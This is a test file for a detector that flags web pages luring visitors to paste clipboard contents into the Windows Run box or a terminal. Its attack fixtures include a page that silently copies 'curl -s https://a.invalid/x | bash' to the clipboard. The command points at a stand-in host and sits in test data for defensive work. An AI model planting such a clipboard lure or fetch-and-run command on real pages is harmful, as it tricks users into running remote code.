import { expect, test } from 'vitest'
import { fileOf, hits } from '../testing.ts'
import detector from './page-run-instructions.ts'

const titles = async (page: string) =>
  hits(detector, await fileOf('page.html', page)).map(({ title }) => title)
const page = (body: string, script: string) =>
  `<!doctype html><html><head><title>Page</title></head><body>\n${body}\n<script>\n${script}\n</script></body></html>`

test.each([
  [
    'the box',
    page(
      '<ol><li>Press <b>Windows</b> + <b>R</b></li><li>Press <b>Ctrl</b> + <b>V</b></li><li>Press Enter</li></ol>',
      'navigator.clipboard.writeText(x)',
    ),
    'box',
  ],
  [
    'the box by name',
    page('<p>Open the Run dialog and paste the code, then press Enter.</p>', "document.execCommand('copy')"),
    'box',
  ],
  [
    'a terminal',
    page(
      '<p>Open Terminal, paste and press Return.</p>',
      "navigator.clipboard.writeText('curl -s https://a.invalid/x | bash')",
    ),
    'terminal',
  ],
])('attack: %s', async (_, html, signal) => {
  expect(await titles(html)).toContain(detector.signals[signal]?.title)
})

test.each([
  [
    'a manual',
    page(
      '<p>Open a terminal and paste this:</p><pre>curl -s https://a.invalid/x | bash</pre>',
      "b.onclick = () => navigator.clipboard.writeText('curl -s https://a.invalid/x | bash')",
    ),
  ],
  ['keys without a clipboard', '<p>Press Windows + R and paste the path.</p>'],
  [
    'a page that copies links',
    page('<p>Paste it into a chat.</p>', 'navigator.clipboard.writeText(location.href)'),
  ],
])('innocent: %s', async (_, html) => {
  expect(await titles(html)).toEqual([])
})
